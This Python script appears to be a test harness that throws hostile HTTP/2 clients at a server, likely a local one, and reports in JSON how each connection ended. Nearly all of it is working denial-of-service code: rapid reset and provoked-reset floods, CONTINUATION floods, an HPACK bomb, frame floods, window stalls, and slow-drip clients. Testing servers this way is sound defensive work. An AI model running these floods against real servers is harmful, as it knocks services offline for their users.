"""Clients of HTTP/2 that mean ill. Usage: h2_hostile.py PORT AUTHORITY HOST NAME…

Each NAME is a flood or a client that is slow, all at the same time. Prints a JSON object: for each, what was sent of what was
meant to be sent, how the connection ended, and after how many seconds.
"""

import json
import struct
import sys
import threading
import time

import h2_wire as h2


class Attack:
    """One connection, on which somebody reads all the time."""

    def __init__(self, port, authority, host, pairs=((4, 65535),), reads=True, receive_buffer=None, source=None):
        self.wire = h2.Wire(port, authority, host, source=source, receive_buffer=receive_buffer)
        self.wire.shake_hands(*pairs)
        self.ended = None
        self.told = []
        self.status = {}
        self.data = 0
        self.begun = time.monotonic()
        self.done = threading.Event()
        if reads:
            threading.Thread(target=self.read, daemon=True).start()

    def read(self):
        try:
            while True:
                kind, _, stream, payload = self.wire.receive(600)
                if kind == h2.GOAWAY:
                    self.told.append("goaway " + h2.code(payload[4:8]))
                elif kind == h2.RST_STREAM:
                    self.told.append("reset " + h2.code(payload))
                    self.status.setdefault(stream, "reset " + h2.code(payload))
                elif kind == h2.HEADERS:
                    self.status[stream] = int(dict(self.wire.decoder.decode(payload, raw=True))[b":status"])
                elif kind == h2.DATA:
                    self.data += len(payload)
        except (h2.Closed, h2.Silent) as why:
            self.ended = time.monotonic() - self.begun
            self.told.append(type(why).__name__.lower())
            self.done.set()

    def flood(self, frames, batch=50):
        """Sends until the connection has ended; whoever is flooded may take its time to say so."""
        sent, waiting = 0, b""
        for one in frames:
            waiting += one
            sent += 1
            if sent % batch == 0:
                if self.done.is_set() or not self.wire.send(waiting):
                    break
                waiting = b""
        self.wire.send(waiting)
        self.done.wait(5)
        return self.outcome(sent=sent)

    def drip(self, parts, every, most):
        """Sends a part at a time until the connection or the request has ended."""
        end = time.monotonic() + most
        while time.monotonic() < end and not self.done.is_set() and not self.status:
            self.wire.send(next(parts))
            self.done.wait(every)
        return self.outcome()

    def outcome(self, **more):
        took = self.ended if self.ended is not None else time.monotonic() - self.begun
        counted = {told: self.told.count(told) for told in self.told}
        return more | {"ended": self.done.is_set(), "seconds": took, "told": counted, "status": self.status.get(1)}


def requests(wire, count):
    block = wire.block(wire.request())
    return ((stream, block) for stream in range(1, 2 * count, 2))


WHOLE = h2.END_STREAM | h2.END_HEADERS


def rapid_reset(attack):
    def frames():
        for stream, block in requests(attack.wire, 10_000):
            yield h2.frame(h2.HEADERS, WHOLE, stream, block) + h2.rst_stream(stream)

    return attack.flood(frames())


def made_you_reset(provocation, flags=h2.END_HEADERS):
    def run(attack):
        def frames():
            for stream, block in requests(attack.wire, 10_000):
                yield h2.frame(h2.HEADERS, flags, stream, block) + provocation(stream)

        return attack.flood(frames())

    return run


def depends_on_itself(attack):
    def frames():
        for stream, block in requests(attack.wire, 10_000):
            payload = struct.pack(">IB", stream, 1) + block
            yield h2.frame(h2.HEADERS, WHOLE | h2.PRIORITISED, stream, payload)

    return attack.flood(frames())


def malformed(attack):
    block = attack.wire.block(attack.wire.request(more=[("X-UPPER", "1")]))
    return attack.flood(h2.frame(h2.HEADERS, WHOLE, stream, block) for stream in range(1, 20_000, 2))


def continuation(size):
    def run(attack):
        attack.wire.send(h2.frame(h2.HEADERS, h2.END_STREAM, 1, attack.wire.block(attack.wire.request())))
        # A literal field without indexing, again and again.
        field = b"\x00\x01x" + bytes([100]) + b"y" * 100
        payload = (field * (1 + size // len(field)))[:size]
        return attack.flood(h2.frame(h2.CONTINUATION, 0, 1, payload) for _ in range(100_000))

    return run


def data(payload, count):
    def run(attack):
        attack.wire.headers(1, attack.wire.request(method="POST"), h2.END_HEADERS)
        return attack.flood((h2.frame(h2.DATA, 0, 1, payload) for _ in range(count)), batch=500)

    return run


def always(one, count=1_000_000):
    return lambda attack: attack.flood((one for _ in range(count)), batch=500)


def bomb(attack):
    """Each block names one field of 3.8 KB four thousand times, in a byte each."""
    first = attack.wire.block(attack.wire.request(more=[("x-bomb", "x" * 3800)]))
    attack.wire.send(h2.frame(h2.HEADERS, WHOLE, 1, first))

    def frames():
        for stream in range(3, 2_000, 2):
            block = attack.wire.block(attack.wire.request()) + b"\xbe" * 4000
            yield h2.frame(h2.HEADERS, WHOLE, stream, block)

    return attack.flood(frames(), batch=5)


def window_stall(attack):
    """A hundred answers of 10 MB that are asked for and not taken."""
    block = attack.wire.block(attack.wire.request("/bytes/10000000"))
    for stream in range(1, 200, 2):
        attack.wire.send(h2.frame(h2.HEADERS, WHOLE, stream, block))
    while len(attack.status) < 100 and time.monotonic() < attack.begun + 50:
        time.sleep(0.1)
    # From now on the application may send, and does until nobody takes more.
    time.sleep(3)
    return attack.outcome(answered=list(attack.status.values()).count(200))


def deaf_stall(attack):
    """The same with all windows open, on a connection from which nothing is read once the answers have begun."""
    attack.wire.send(h2.window_update(0, 2**31 - 1 - 65535))
    block = attack.wire.block(attack.wire.request("/bytes/10000000"))
    for stream in range(1, 200, 2):
        attack.wire.send(h2.frame(h2.HEADERS, WHOLE, stream, block))
    time.sleep(5)
    return attack.outcome()


def never():
    while True:
        yield b""


def bytes_of(data, then=b""):
    for at in range(len(data)):
        yield data[at : at + 1]
    while True:
        yield then


def slow_head(attack):
    block = attack.wire.block(attack.wire.request())
    return attack.drip(bytes_of(h2.frame(h2.HEADERS, WHOLE, 1, block)), 1, 30)


def slow_block(attack):
    block = attack.wire.block(attack.wire.request())
    attack.wire.send(h2.frame(h2.HEADERS, h2.END_STREAM, 1, block))
    field = attack.wire.block([("x-more", "1")])
    return attack.drip(iter(lambda: h2.frame(h2.CONTINUATION, 0, 1, field), None), 1, 30)


def slow_body(attack):
    attack.wire.headers(1, attack.wire.request(method="POST"), h2.END_HEADERS)
    return attack.drip(iter(lambda: h2.frame(h2.DATA, 0, 1, b"x"), None), 1, 80)


def silent_body(attack):
    attack.wire.headers(1, attack.wire.request(method="POST"), h2.END_HEADERS)
    return attack.drip(never(), 1, 110)


def steady_body(attack):
    """As slow as may be, and a little quicker: it is to be answered."""
    attack.wire.headers(1, attack.wire.request(method="POST"), h2.END_HEADERS)
    for _ in range(45):
        attack.wire.send(h2.frame(h2.DATA, 0, 1, b"x" * 300))
        time.sleep(1)
    attack.wire.send(h2.frame(h2.DATA, h2.END_STREAM, 1, b""))
    end = time.monotonic() + 20
    while 1 not in attack.status and time.monotonic() < end:
        time.sleep(0.1)
    return attack.outcome()


def shut_window(attack):
    """The answer's head is taken, and of its body only what the first window holds."""
    attack.wire.headers(1, attack.wire.request("/bytes/10000000"))
    end = time.monotonic() + 110
    while time.monotonic() < end and not any(told.startswith("reset") for told in attack.told) and not attack.done.is_set():
        time.sleep(0.2)
    took = time.monotonic() - attack.begun
    return attack.outcome() | {"seconds": took}


def deaf(attack):
    """Opens all windows and never reads from the connection."""
    attack.wire.send(h2.window_update(0, 2**31 - 1 - 65535))
    attack.wire.headers(1, attack.wire.request("/bytes/100000000"))
    end = time.monotonic() + 90
    while time.monotonic() < end:
        time.sleep(1)
        try:
            # Whoever never reads hears of the end when writing.
            attack.wire.socket.sendall(h2.frame(h2.PING, 0, 0, bytes(8)))
        except OSError:
            attack.ended = time.monotonic() - attack.begun
            attack.done.set()
            break
    return attack.outcome()


def idle(attack):
    attack.wire.headers(1, attack.wire.request())
    attack.done.wait(110)
    return attack.outcome()


def pinging(attack):
    """Idle, but for a PING every second."""
    while not attack.done.wait(1) and time.monotonic() < attack.begun + 110:
        attack.wire.send(h2.frame(h2.PING, 0, 0, bytes(8)))
    return attack.outcome()


def events(attack):
    """Takes events for long: it is not to be cut."""
    attack.wire.headers(1, attack.wire.request("/events"))
    attack.done.wait(62)
    return attack.outcome(data=attack.data)


FLOODS = {
    "rapid reset": rapid_reset,
    "reset provoked by a window update of 0": made_you_reset(lambda stream: h2.window_update(stream, 0)),
    "reset provoked by a window of 2^31": made_you_reset(lambda stream: h2.window_update(stream, 2**31 - 1)),
    "reset provoked by data after the end": made_you_reset(lambda stream: h2.frame(h2.DATA, 1, stream, b"x"), WHOLE),
    "reset provoked by a second head": made_you_reset(lambda stream: h2.frame(h2.HEADERS, 4, stream, b"\x00\x01a\x01b")),
    "reset provoked by a stream that depends on itself": depends_on_itself,
    "malformed heads": malformed,
    "CONTINUATION of a byte": continuation(1),
    "CONTINUATION of 16 KB": continuation(16_000),
    "CONTINUATION of nothing": continuation(0),
    "empty DATA": data(b"", 1_000_000),
    "DATA of a byte": data(b"x", 1_000_000),
    "HPACK bomb": bomb,
    "SETTINGS": always(h2.settings((4, 65535))),
    "acknowledged SETTINGS": always(h2.frame(h2.SETTINGS, h2.ACK, 0)),
    "PING": always(h2.frame(h2.PING, 0, 0, bytes(8))),
    "PRIORITY": always(h2.frame(h2.PRIORITY, 0, 1, struct.pack(">IB", 0, 1))),
    "WINDOW_UPDATE": always(h2.window_update(0, 1)),
    "unknown frames": always(h2.frame(0x16, 0, 0, b"x")),
    "window stall": window_stall,
}

SLOW = {
    "slow head": slow_head,
    "slow block": slow_block,
    "slow body": slow_body,
    "silent body": silent_body,
    "steady body": steady_body,
    "shut window": shut_window,
    "idle": idle,
    "pinging": pinging,
    "events": events,
}


def slow_preface(port, authority, host):
    """Has nothing of HTTP/2 but TLS that promises it."""
    wire = h2.Wire(port, authority, host)
    begun = time.monotonic()
    closed = False
    for part in bytes_of(h2.PREFACE):
        wire.send(part)
        try:
            while time.monotonic() < begun + 40:
                wire.receive(1)
        except h2.Closed:
            closed = True
            break
        except h2.Silent:
            pass
        if time.monotonic() > begun + 40:
            break
    return {"ended": closed, "seconds": time.monotonic() - begun, "told": {}, "status": None}


def many_streams(where):
    """Six connections of one address with a hundred streams each, on all of which events are asked for; one of another."""
    attacks = [Attack(*where, source="127.0.0.9") for _ in range(6)]
    for attack in attacks:
        block = attack.wire.block(attack.wire.request("/events"))
        for stream in range(1, 200, 2):
            attack.wire.send(h2.frame(h2.HEADERS, WHOLE, stream, block))
    end = time.monotonic() + 50
    while sum(len(attack.status) for attack in attacks) < 600 and time.monotonic() < end:
        time.sleep(0.1)
    other = Attack(*where, source="127.0.0.10", reads=False)
    answer = other.wire.exchange(other.wire.request())["status"]
    statuses = [status for attack in attacks for status in attack.status.values()]
    counted = {str(status): statuses.count(status) for status in statuses}
    return {"ended": False, "seconds": 0, "told": counted, "status": answer}


def run(name, results, where):
    try:
        if name == "many streams":
            results[name] = many_streams(where)
        elif name == "slow preface":
            results[name] = slow_preface(*where)
        elif name in ("deaf", "deaf stall"):
            attack = Attack(*where, pairs=((4, 2**31 - 1),), reads=False, receive_buffer=4096)
            results[name] = (deaf if name == "deaf" else deaf_stall)(attack)
        else:
            results[name] = (FLOODS | SLOW)[name](Attack(*where))
    except Exception as error:  # one broken attack says so and does not end the others
        results[name] = {"ended": False, "seconds": 0, "told": {f"{type(error).__name__}: {error}": 1}, "status": None}


def main(port, authority, host, *names):
    results = {}
    if names == ("floods",):
        names = tuple(FLOODS)
    where = (int(port), authority, host)
    threads = [threading.Thread(target=run, args=(name, results, where)) for name in names]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    json.dump(results, sys.stdout)


if __name__ == "__main__":
    main(*sys.argv[1:])
